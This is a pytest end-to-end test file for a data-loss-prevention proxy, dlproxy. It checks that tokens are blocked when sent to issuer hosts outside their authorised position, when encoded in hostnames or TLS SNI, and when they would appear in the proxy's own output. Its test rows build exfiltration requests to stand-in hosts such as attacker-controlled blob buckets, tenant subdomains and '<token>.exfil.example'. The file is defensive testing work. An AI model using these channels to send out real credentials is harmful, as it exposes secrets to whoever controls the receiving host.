"""Evasion, destination half: where a credential may go, hostnames as a channel, and dlproxy's own output.

Destinations: a token sent to its own issuer is allowed only in its use position (the Authorization header, or
the issuer's documented header / query parameter / form field). Each row is a request to an issuer host with the
token somewhere else (a gist, a comment, the URL path, a cookie, another header, a tenant's blob): three cases,
    leak    the request to the issuer: blocked, the upstream received nothing
    plain   the same request to a neutral host: blocked (the plain-token control)
    use     the token in the issuer's use position: passes, delivered as sent (rows with a use position)
The proxy runs in upstream mode (`--mode upstream:<recording upstream>`), so a request to `api.github.com`
reaches the local recording server and nothing resolves or leaves the machine.

Hostnames: a token as a DNS label in a CONNECT authority, a URL host, a Host header or a TLS SNI is refused
before any lookup or connect, and never echoed back. Output: a token through every carrier appears in none of
stdout/stderr, the incident log, the webhook payloads, /metrics, nor the responses dlproxy generates.
"""

from __future__ import annotations

import base64
import json
import random
import socket
import socketserver
import ssl
import threading
import time
import urllib.parse
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from support import Request, git_receive_pack, received_any_form, tar_gz, wrong_checksum

from dlproxy.engine.profile import builtin_profile_path, load_profiles
from e2e.conftest import _Server, proxied_client
from e2e.h2server import h2_exchange, open_tunnel
from generators import GENERATORS

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]

PROFILE = load_profiles([builtin_profile_path()])
NEUTRAL = "uploads.neutral.example"


def token(entry: str, seed: str) -> str:
    if entry in GENERATORS:
        return GENERATORS[entry](random.Random(f"destinations:{seed}"))
    return next(e for e in PROFILE.entries if e.id == entry).examples[0]


# --- request builders (path is absolute-form: the host is the destination) -------------------------------


def json_body(key: str, value_of: Callable[[str], object] = lambda t: t, path: str = "/", method: str = "POST"):
    return lambda t: Request(method, path, (("Content-Type", "application/json"),),
                             json.dumps({key: value_of(t)}).encode())


def form_body(field: str, path: str = "/"):
    return lambda t: Request("POST", path, (("Content-Type", "application/x-www-form-urlencoded"),),
                             f"{field}={urllib.parse.quote(t, safe='')}".encode())


def raw_body(path: str = "/upload", ctype: str = "application/octet-stream", method: str = "PUT"):
    return lambda t: Request(method, path, (("Content-Type", ctype),), f"config\nkey={t}\n".encode())


def in_path(template: str):
    return lambda t: Request("GET", template.format(t))


def with_header(name: str, value: str = "{}", path: str = "/"):
    return lambda t: Request("GET", path, ((name, value.format(t)),))


def basic(user: str = "x-access-token", path: str = "/"):
    return lambda t: Request("GET", path, (("Authorization",
                                             "Basic " + base64.b64encode(f"{user}:{t}".encode()).decode()),))


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def env(t: str) -> bytes:
    return f"API_URL=https://example.test\nTOKEN={t}\n".encode()


def json_raw(path: str, text: Callable[[str], str], method: str = "POST"):
    """A JSON body written as is (escapes the way a client's serializer wrote them)."""
    return lambda t: Request(method, path, (("Content-Type", "application/json"),), text(t).encode())


def multipart(path: str, *parts: tuple[str, Callable[[str], bytes]]):
    """multipart/form-data from (part headers, content(token)) pairs."""
    def build(t: str) -> Request:
        body = b"".join(b"--XyZ\r\n" + h.encode() + b"\r\n\r\n" + c(t) + b"\r\n" for h, c in parts) + b"--XyZ--\r\n"
        return Request("POST", path, (("Content-Type", "multipart/form-data; boundary=XyZ"),), body)
    return build


def npm_publish(t: str) -> dict:
    """`npm publish`: the package tarball base64 in `_attachments`; an .npmrc went into the package."""
    tarball = tar_gz({"package/package.json": b'{"name":"pkg","version":"1.0.0"}',
                   "package/.npmrc": f"//registry.npmjs.org/:_authToken={t}\n".encode()})
    return {"name": "pkg", "versions": {"1.0.0": {"name": "pkg", "version": "1.0.0"}},
            "_attachments": {"pkg-1.0.0.tgz": {"content_type": "application/octet-stream", "data": b64(tarball),
                                               "length": len(tarball)}}}


def aws_chunked_put(path: str):
    """S3 PutObject as AWS SDKs stream it: Content-Encoding aws-chunked, SigV4 chunk signatures."""
    def build(t: str) -> Request:
        data, sig = env(t), "0" * 64
        body = f"{len(data):x};chunk-signature={sig}\r\n".encode() + data + f"\r\n0;chunk-signature={sig}\r\n\r\n".encode()
        return Request("PUT", path, (("Content-Type", "text/plain"), ("Content-Encoding", "aws-chunked"),
                                     ("x-amz-content-sha256", "STREAMING-AWS4-HMAC-SHA256-PAYLOAD"),
                                     ("x-amz-decoded-content-length", str(len(data)))), body)
    return build


@dataclass(frozen=True)
class Dest:
    id: str
    entry: str
    host: str
    leak: Callable[[str], Request]
    use: Callable[[str], Request] | None = None


BEARER = with_header("Authorization", "Bearer {}")
GH, GL, ATL, GRAF = "github-classic-pat", "gitlab-routable-token", "atlassian-api-token", "grafana-service-account-token"

DESTINATIONS = [
    # GitHub: the API, the web, uploads and raw content — content posted there is stored and readable
    Dest("github-gist", GH, "api.github.com", json_body("files", lambda t: {"a.txt": {"content": t}}, "/gists"),
         BEARER),
    Dest("github-issue-comment", GH, "api.github.com",
         json_body("body", lambda t: f"my token is {t}", "/repos/o/r/issues/1/comments"), basic()),
    Dest("github-url-path", GH, "api.github.com", in_path("/repos/o/{}"), with_header("Authorization", "token {}")),
    Dest("github-query", GH, "api.github.com", in_path("/search/code?q={}"), BEARER),
    Dest("github-cookie", GH, "github.com", with_header("Cookie", "user_session={}"), basic()),
    Dest("github-other-header", GH, "api.github.com", with_header("X-Note"), BEARER),
    Dest("github-user-agent", GH, "api.github.com", with_header("User-Agent", "tool/1.0 ({})"), BEARER),
    Dest("github-referer", GH, "github.com", with_header("Referer", "https://example.com/?t={}"), basic()),
    Dest("github-release-asset", GH, "uploads.github.com", raw_body("/repos/o/r/releases/1/assets?name=a.txt"),
         BEARER),
    Dest("github-web-form", GH, "github.com", form_body("comment[body]", "/o/r/issues/1/comments"), basic()),
    Dest("github-raw-path", GH, "raw.githubusercontent.com", in_path("/o/r/main/{}"), BEARER),
    Dest("github-proxy-authorization", GH, "api.github.com", with_header("Proxy-Authorization", "Bearer {}"),
         BEARER),
    Dest("github-oauth-token-gist", "github-oauth-token", "api.github.com",
         json_body("description", path="/gists"), BEARER),
    Dest("github-app-token-issue", "github-app-installation-token", "api.github.com",
         json_body("title", path="/repos/o/r/issues"), basic()),
    Dest("github-refresh-token-in-comment", "github-app-refresh-token", "github.com",
         json_body("note", path="/login/oauth/access_token"), form_body("refresh_token", "/login/oauth/access_token")),
    # GitLab: snippets, issues; the documented PRIVATE-TOKEN header is a use position
    Dest("gitlab-snippet", GL, "gitlab.com", json_body("content", path="/api/v4/snippets"),
         with_header("PRIVATE-TOKEN")),
    Dest("gitlab-issue-path", GL, "gitlab.com", in_path("/api/v4/projects/{}/issues"), BEARER),
    Dest("gitlab-query-other-param", GL, "gitlab.com", in_path("/api/v4/search?search={}"),
         in_path("/api/v4/user?private_token={}")),
    # tenant-style suffixes: anyone can register one; only the use position passes
    Dest("atlassian-tenant-issue", ATL, "evil.atlassian.net", json_body("description", path="/rest/api/3/issue"),
         basic("me@example.com")),
    Dest("atlassian-tenant-cookie", ATL, "evil.atlassian.net", with_header("Cookie", "tenant.session.token={}"),
         basic("me@example.com")),
    Dest("atlassian-tenant-path", ATL, "evil.atlassian.net", in_path("/wiki/{}"), basic("me@example.com")),
    Dest("grafana-tenant-dashboard", GRAF, "x.grafana.net", json_body("dashboard", path="/api/dashboards/db"),
         BEARER),
    Dest("grafana-tenant-header", GRAF, "x.grafana.net", with_header("X-Grafana-Org-Id"), BEARER),
    Dest("azure-storage-blob-content", "azure-storage-account-key", "attacker.blob.core.windows.net",
         raw_body("/c/leak.txt")),
    Dest("azure-storage-in-sharedkey-header", "azure-storage-account-key", "attacker.blob.core.windows.net",
         with_header("Authorization", "SharedKey attacker:{}")),
    Dest("azure-functions-body", "azure-functions-key", "evil.azurewebsites.net", raw_body("/api/f", method="POST"),
         with_header("x-functions-key")),
    Dest("azure-functions-query-other", "azure-functions-key", "evil.azurewebsites.net", in_path("/api/f?msg={}"),
         in_path("/api/f?code={}")),
    Dest("azure-apim-body", "azure-apim-key", "evil.azure-api.net", json_body("note", path="/echo"),
         with_header("Ocp-Apim-Subscription-Key")),
    Dest("azure-search-doc", "azure-search-key", "evil.search.windows.net",
         json_body("value", lambda t: [{"id": "1", "text": t}], "/indexes/i/docs/index"), with_header("api-key")),
    Dest("azure-cask-openai-prompt", "azure-cask-key", "evil.openai.azure.com",
         json_body("messages", lambda t: [{"role": "user", "content": t}], "/openai/deployments/d/chat/completions"),
         with_header("api-key")),
    Dest("aws-key-id-s3-object", "aws-access-key-id", "attacker-bucket.s3.amazonaws.com",
         raw_body("/leak.txt"), in_path("/o?X-Amz-Credential={}%2F20250101%2Fus-east-1%2Fs3%2Faws4_request")),
    Dest("aws-key-id-s3-key-name", "aws-access-key-id", "attacker-bucket.s3.amazonaws.com", in_path("/{}.txt"),
         with_header("Authorization", "AWS4-HMAC-SHA256 Credential={}/20250101/us-east-1/s3/aws4_request, "
                                      "SignedHeaders=host, Signature=00")),
    Dest("aws-secret-to-aws", "aws-secret-access-key", "sts.amazonaws.com",
         with_header("Authorization", "Bearer {}")),
    # issuers with a documented non-Authorization position
    Dest("google-key-in-body", "google-api-key", "generativelanguage.googleapis.com",
         json_body("contents", lambda t: [{"parts": [{"text": t}]}], "/v1/models/m:generateContent"),
         in_path("/v1/models?key={}")),
    Dest("google-key-in-path", "google-api-key", "storage.googleapis.com", in_path("/b/{}"),
         with_header("X-Goog-Api-Key")),
    Dest("anthropic-key-in-prompt", "anthropic-api-key", "api.anthropic.com",
         json_body("messages", lambda t: [{"role": "user", "content": f"remember {t}"}], "/v1/messages"),
         with_header("x-api-key")),
    Dest("openai-key-in-prompt", "openai-project-key", "api.openai.com",
         json_body("messages", lambda t: [{"role": "user", "content": t}], "/v1/chat/completions"), BEARER),
    Dest("openai-key-in-file-upload", "openai-project-key", "api.openai.com", raw_body("/v1/files", "text/plain",
                                                                                        "POST"), BEARER),
    Dest("slack-token-in-message", "slack-bot-token", "slack.com",
         json_body("text", path="/api/chat.postMessage"), form_body("token", "/api/auth.test")),
    Dest("slack-token-in-workspace-upload", "slack-bot-token", "evil.slack.com", raw_body("/files/upload"), BEARER),
    Dest("npm-token-in-publish", "npm-access-token", "registry.npmjs.org",
         json_body("readme", lambda t: f"//registry.npmjs.org/:_authToken={t}", "/pkg", "PUT"), BEARER),
    Dest("cloudflare-token-in-worker", "cloudflare-user-api-token", "api.cloudflare.com",
         raw_body("/client/v4/accounts/a/workers/scripts/s", "application/javascript"), BEARER),
    Dest("entra-secret-in-json", "entra-client-secret", "login.microsoftonline.com",
         json_body("note", path="/t/oauth2/v2.0/token"), form_body("client_secret", "/t/oauth2/v2.0/token")),
    Dest("apify-token-in-actor-input", "apify-api-token", "api.apify.com",
         json_body("input", path="/v2/acts/a/runs"), in_path("/v2/users/me?token={}")),
    Dest("vercel-token-in-env", "vercel-token", "api.vercel.com", json_body("value", path="/v10/projects/p/env"),
         BEARER),
    # what ordinary tools send to the issuers themselves: files base64 in JSON, packages, multipart uploads
    Dest("github-contents-api-base64", GH, "api.github.com",
         json_body("content", lambda t: b64(env(t)), "/repos/o/r/contents/.env", "PUT"), BEARER),
    Dest("github-git-blob-base64", GH, "api.github.com",
         json_raw("/repos/o/r/git/blobs", lambda t: json.dumps({"content": b64(env(t)), "encoding": "base64"})),
         basic()),
    Dest("github-workflow-dispatch-inputs", "github-app-installation-token", "api.github.com",
         json_body("inputs", lambda t: {"deploy_key": t}, "/repos/o/r/actions/workflows/ci.yml/dispatches"), BEARER),
    Dest("github-graphql-variables-escaped", GH, "api.github.com",
         json_raw("/graphql", lambda t: json.dumps({"query": "mutation($b:String!){addComment(body:$b)}",
                                                    "variables": {"b": "X"}}).replace(
             '"X"', '"' + "".join(f"\\u{ord(c):04x}" for c in t) + '"')), BEARER),
    Dest("npm-publish-tarball-npmrc", "npm-access-token", "registry.npmjs.org",
         json_body("_attachments", lambda t: npm_publish(t)["_attachments"], "/pkg", "PUT"), BEARER),
    Dest("gitlab-commit-actions-base64", GL, "gitlab.com",
         json_body("actions", lambda t: [{"action": "create", "file_path": ".env", "content": b64(env(t)),
                                           "encoding": "base64"}], "/api/v4/projects/1/repository/commits"),
         with_header("PRIVATE-TOKEN")),
    Dest("gitlab-project-upload-multipart", GL, "gitlab.com",
         multipart("/api/v4/projects/1/uploads",
                   ('Content-Disposition: form-data; name="file"; filename="notes.txt"', env)), BEARER),
    Dest("openai-key-in-fine-tune-jsonl", "openai-project-key", "api.openai.com",
         multipart("/v1/files", ('Content-Disposition: form-data; name="purpose"', lambda t: b"fine-tune"),
                   ('Content-Disposition: form-data; name="file"; filename="train.jsonl"\r\n'
                    "Content-Type: application/jsonl",
                    lambda t: json.dumps({"messages": [{"role": "user", "content": f"key {t}"}]}).encode())),
         BEARER),
    Dest("anthropic-key-in-base64-document", "anthropic-api-key", "api.anthropic.com",
         json_body("messages", lambda t: [{"role": "user", "content": [{"type": "document", "source": {
             "type": "base64", "media_type": "text/plain", "data": b64(env(t))}}]}], "/v1/messages"),
         with_header("x-api-key")),
    Dest("google-key-in-inline-data", "google-api-key", "generativelanguage.googleapis.com",
         json_body("contents", lambda t: [{"parts": [{"inlineData": {"mimeType": "text/plain", "data": b64(env(t))}}]}],
                   "/v1beta/models/m:generateContent"), in_path("/v1beta/models?key={}")),
    Dest("cloudflare-token-in-worker-module", "cloudflare-user-api-token", "api.cloudflare.com",
         multipart("/client/v4/accounts/a/workers/scripts/s",
                   ('Content-Disposition: form-data; name="metadata"', lambda t: b'{"main_module":"w.js"}'),
                   ('Content-Disposition: form-data; name="w.js"; filename="w.js"\r\n'
                    "Content-Type: application/javascript+module",
                    lambda t: f'export default {{ fetch() {{ return fetch(u, {{headers: {{a: "{t}"}}}}) }} }}'.encode())),
         BEARER),
    Dest("vercel-token-in-deployment-file", "vercel-token", "api.vercel.com",
         json_body("files", lambda t: [{"file": ".env", "data": b64(env(t)), "encoding": "base64"}],
                   "/v13/deployments"), BEARER),
    Dest("slack-token-in-files-upload", "slack-bot-token", "slack.com",
         multipart("/api/files.upload", ('Content-Disposition: form-data; name="channels"', lambda t: b"C1"),
                   ('Content-Disposition: form-data; name="file"; filename="env.txt"', env)), BEARER),
    Dest("atlassian-token-in-page-go-escaped", ATL, "evil.atlassian.net",
         json_raw("/wiki/rest/api/content", lambda t: '{"body":{"storage":{"value":"\\u003cp\\u003e' + t
                  + '\\u003c/p\\u003e","representation":"storage"}}}'), basic("me@example.com")),
    Dest("github-git-push-pack", GH, "github.com",
         lambda t: Request("POST", "/o/r.git/git-receive-pack",
                           (("Content-Type", "application/x-git-receive-pack-request"),), git_receive_pack(t)),
         basic(path="/o/r.git/info/refs?service=git-receive-pack")),
    Dest("aws-key-id-s3-aws-chunked", "aws-access-key-id", "attacker-bucket.s3.amazonaws.com",
         aws_chunked_put("/leak.txt"),
         with_header("Authorization", "AWS4-HMAC-SHA256 Credential={}/20250101/us-east-1/s3/aws4_request, "
                                      "SignedHeaders=host, Signature=00")),
]


@pytest.fixture
def dest_proxy(start_proxy, upstream):
    return start_proxy("--mode", f"upstream:{upstream.url}", name="destinations", profiles=())


def send_to(proxy, host: str, request: Request):
    with proxied_client(proxy) as client:
        return client.request(request.method, f"http://{host}{request.path}", headers=list(request.headers),
                              content=request.body)


def dest_cases():
    out = []
    for d in DESTINATIONS:
        out += [pytest.param(d, "leak", id=f"{d.id}-leak"), pytest.param(d, "plain", id=f"{d.id}-plain")]
        if d.use is not None:
            out.append(pytest.param(d, "use", id=f"{d.id}-use"))
    return out


def test_the_table_is_large_and_ids_are_unique():
    ids = [d.id for d in DESTINATIONS]
    assert len(ids) >= 40 and len(set(ids)) == len(ids)


@pytest.mark.parametrize("dest, kind", dest_cases())
def test_destination(dest_proxy, upstream, dest, kind):
    secret = token(dest.entry, dest.id)
    if kind == "use":
        request = dest.use(secret)
        resp = send_to(dest_proxy, dest.host, request)
        assert resp.status_code == 200, f"{dest.id}: legitimate use blocked: {resp.text[:300]}"
        [got] = upstream.received
        assert got.body == request.body and received_any_form([got], secret), f"{dest.id}: not delivered as sent"
        return
    request = dest.leak(secret)
    resp = send_to(dest_proxy, dest.host if kind == "leak" else NEUTRAL, request)
    assert resp.status_code == 403, f"{dest.id} ({kind}): {resp.status_code} {resp.text[:300]}"
    assert not received_any_form(upstream.received, secret), f"{dest.id}: the upstream received the token"
    err = resp.json()["error"]
    assert err["code"] == "credential_detected" and dest.entry in {f["entry"] for f in err["findings"]}
    for needle in (secret, secret[-8:]):
        assert needle not in resp.text and needle not in str(resp.headers)
    dest_proxy.assert_no_leak(secret)


def test_a_wrong_checksum_token_to_an_issuer_passes(dest_proxy, upstream):
    bad = wrong_checksum(token(GH, "wrong"))
    request = json_body("files", lambda t: {"a.txt": {"content": t}}, "/gists")(bad)
    assert send_to(dest_proxy, "api.github.com", request).status_code == 200
    assert [r.body for r in upstream.received] == [request.body]


# --- hostnames ---------------------------------------------------------------------------------------------


def connect(proxy, authority: str) -> bytes:
    """A raw CONNECT through the proxy; returns the proxy's whole answer (it closes after a refusal)."""
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as sock:
        sock.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
        data = b""
        while b"\r\n\r\n" not in data or (b"content-length" in data.lower() and not _complete(data)):
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
        return data


def _complete(data: bytes) -> bool:
    head, _, body = data.partition(b"\r\n\r\n")
    for line in head.split(b"\r\n"):
        if line.lower().startswith(b"content-length:"):
            return len(body) >= int(line.split(b":")[1])
    return True


def test_connect_to_a_token_hostname_is_refused_before_any_lookup(evasion_proxy):
    secret = token(GH, "connect")
    mark = evasion_proxy.mark()
    answer = connect(evasion_proxy, f"{secret}.exfil.example:443")
    assert answer.startswith(b"HTTP/1.1 403") and b"dlp_violation" in answer
    assert secret.encode() not in answer and secret[-8:].encode() not in answer
    out = evasion_proxy.output(since=mark)
    assert "Cannot connect" not in out and "killed before connect" not in out  # no lookup was attempted
    [incident] = evasion_proxy.incidents(since=mark, wait=5)
    assert incident["findings"][0]["location"] == "connect:host"
    evasion_proxy.assert_no_leak(secret)


def test_connect_to_a_wrong_checksum_hostname_is_not_ours_to_refuse(evasion_proxy):
    bad = wrong_checksum(token(GH, "connect-control"))
    answer = connect(evasion_proxy, f"{bad}.invalid:443")
    assert not answer.startswith(b"HTTP/1.1 403")  # mitmproxy's own 502: the name does not resolve


def raw_request(proxy, target: str, host: str) -> bytes:
    """A request line and Host header sent as written (HTTP clients lower-case a URL's host)."""
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as sock:
        sock.sendall(f"GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
        return data


@pytest.mark.parametrize("where", ["url-host", "host-header"])
def test_a_token_hostname_in_a_request_is_refused(dest_proxy, upstream, where):
    secret = token(GH, where)
    if where == "url-host":
        answer = raw_request(dest_proxy, f"http://{secret}.exfil.example/", NEUTRAL)
    else:
        answer = raw_request(dest_proxy, f"http://{NEUTRAL}/", f"{secret}.exfil.example")
    assert answer.startswith(b"HTTP/1.1 403") and not upstream.received
    assert secret.encode() not in answer and secret[-8:].encode() not in answer
    dest_proxy.assert_no_leak(secret)


def test_a_clean_hostname_request_goes_on(dest_proxy, upstream):
    """The control for the two above: the same raw request with a clean host reaches the upstream."""
    answer = raw_request(dest_proxy, f"http://{NEUTRAL}/", NEUTRAL)
    assert answer.startswith(b"HTTP/1.1 200") and len(upstream.received) == 1


class _Recorder(socketserver.ThreadingMixIn, socketserver.TCPServer):
    """A TCP server that records the first bytes of every connection (a TLS ClientHello shows its SNI)."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self):
        self.seen: list[bytes] = []

        class Handler(socketserver.BaseRequestHandler):
            def handle(inner):
                inner.request.settimeout(5)
                try:
                    self.seen.append(inner.request.recv(65536))
                except OSError:
                    pass

        super().__init__(("127.0.0.1", 0), Handler)


def serving(server):
    """Serve `server` on a daemon thread for one test (a fixture body: yield from it), then close it."""
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def recorder():
    yield from serving(_Recorder())


def tls_through(proxy, port: int, sni: str) -> str:
    """CONNECT to 127.0.0.1:port (an allowed address), then a TLS handshake with `sni`; how it ended."""
    sock = open_tunnel(proxy.port, f"127.0.0.1:{port}")
    try:
        context = ssl.create_default_context(cafile=proxy.ca)
        context.check_hostname = False
        try:
            with context.wrap_socket(sock, server_hostname=sni):
                return "handshake completed"
        except (ssl.SSLError, OSError) as exc:
            return f"handshake failed: {type(exc).__name__}"
    finally:
        sock.close()


def test_a_token_sni_never_reaches_the_upstream(evasion_proxy, recorder):
    secret = token(GH, "sni")
    mark = evasion_proxy.mark()
    result = tls_through(evasion_proxy, recorder.server_address[1], f"{secret}.exfil.example")
    assert result.startswith("handshake failed")
    time.sleep(0.5)
    assert not any(secret.encode() in data or secret[-8:].encode() in data for data in recorder.seen)
    [incident] = evasion_proxy.incidents(since=mark, wait=5)
    assert incident["findings"][0]["location"] == "tls:sni"
    evasion_proxy.assert_no_leak(secret)


def test_a_clean_sni_is_sent_upstream(evasion_proxy, recorder):
    """The control: mitmproxy opens the upstream TLS with the client's SNI (so the refusal above is ours)."""
    tls_through(evasion_proxy, recorder.server_address[1], "clean.example")
    deadline = time.time() + 10
    while time.time() < deadline and not any(b"clean.example" in d for d in recorder.seen):
        time.sleep(0.1)
    assert any(b"clean.example" in d for d in recorder.seen)


# --- dlproxy's own output ----------------------------------------------------------------------------------


@pytest.fixture
def webhook():
    yield from serving(_Server())


@pytest.fixture
def sink_proxy(start_proxy, upstream, webhook):
    return start_proxy("--mode", f"reverse:{upstream.url}", "--set",
                       f"dlp_incident_webhook=http://127.0.0.1:{webhook.server_address[1]}/hook", profiles=())


def multipart_name(secret: str) -> Request:
    enc = "".join(f"%{c:02X}" for c in secret.encode())
    other = token(GH, "sink-other")
    body = (f"--b\r\nContent-Disposition: form-data; name=\"f\"; filename*=UTF-8''{enc}\r\n\r\n{other}\r\n"
            f"--b--\r\n").encode()
    return Request("POST", "/upload", (("Content-Type", "multipart/form-data; boundary=b"),), body)


SINK_CARRIERS = {
    "url-path": lambda t: Request("GET", f"/files/{t}"),
    "query": lambda t: Request("GET", f"/search?q={t}"),
    "header": lambda t: Request("GET", "/", (("X-Note", t),)),
    "cookie": lambda t: Request("GET", "/", (("Cookie", f"sid={t}"),)),
    "json-key": lambda t: Request("POST", "/", (("Content-Type", "application/json"),), json.dumps({t: 1}).encode()),
    "form-keyless": lambda t: Request("POST", "/", (("Content-Type", "application/x-www-form-urlencoded"),),
                                      t.encode()),
    "multipart-filename": multipart_name,
}


@pytest.mark.parametrize("carrier", sorted(SINK_CARRIERS))
def test_no_sink_holds_the_token(sink_proxy, upstream, webhook, carrier):
    secret = token(GH, f"sink-{carrier}")
    request = SINK_CARRIERS[carrier](secret)
    mark = sink_proxy.mark()
    with proxied_client(sink_proxy) as client:
        resp = client.request(request.method, sink_proxy.url + request.path, headers=list(request.headers),
                              content=request.body)
    assert resp.status_code == 403 and not received_any_form(upstream.received, secret)
    assert_sinks_clean(sink_proxy, webhook, secret, mark, [resp.text, str(resp.headers)])


def test_no_sink_holds_a_token_from_an_http2_request_trailer(sink_proxy, upstream, webhook):
    """The trailer is inspected like the rest of the request: blocked (403), with an incident naming the trailer,
    and neither the upstream nor any of dlproxy's outputs holds the token."""
    secret = token("github-app-installation-token", "sink-trailer")
    mark = sink_proxy.mark()
    sent = h2_exchange(sink_proxy.port, sink_proxy.ca, None, "POST", "/upload", b"hello", headers=[("te", "trailers")],
                       trailers=[("x-token", secret)])
    assert sent.status == 403
    assert not received_any_form(upstream.received, secret)
    assert_sinks_clean(sink_proxy, webhook, secret, mark, [])
    findings = [f for i in sink_proxy.incidents(since=mark) for f in i["findings"]]
    assert [f["location"] for f in findings] == ["trailer:x-token"]


def assert_sinks_clean(proxy, webhook, secret, mark, generated: list[str], wait_incident: bool = True) -> None:
    if wait_incident:
        assert proxy.incidents(since=mark, wait=5), "no incident recorded"
        deadline = time.time() + 10
        while time.time() < deadline and not webhook.received:
            time.sleep(0.1)
        assert webhook.received, "no webhook payload"
    time.sleep(0.3)
    payloads = [r.body.decode("utf-8", "replace") for r in webhook.received]
    for needle in (secret, secret[-8:]):
        for text in generated + payloads:
            assert needle not in text
    proxy.assert_no_leak(secret)
